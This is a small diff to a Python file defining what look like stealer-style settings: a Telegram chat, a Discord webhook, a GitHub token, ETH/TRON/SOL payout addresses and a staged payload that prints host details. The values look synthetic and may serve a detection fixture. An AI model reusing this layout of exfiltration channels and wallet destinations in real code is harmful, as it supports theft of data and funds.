@@ -22,7 +22,7 @@ TG_CHAT = "-1001987654321"
 WEBHOOK = f"https://discord.com/api/webhooks/{1187000000000000000 + 4321}/{'Zq3Lx9' * 11}"  # pragma: allowlist secret
 GIST_TOKEN = "ghp_" + "A1b2C3d4E5" * 3 + "f6G7h8"  # pragma: allowlist secret
 ETH_DEST = "0x" + "7f3a9c2b1d" * 4
-TRON_DEST = "T" + "Xk3mQ9vR2pL7sN4wZ8yB6cD1fH5jT" + "ab3"
+TRON_DEST = "T" + "Xk3mQ9vR2pL7sN4wZ8yB6cD1fH5jT" + "ab3Q"  # 34 characters
 SOL_DEST = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"
 
 _STAGE = b"import os, platform\nprint(platform.node(), os.getcwd())\n"
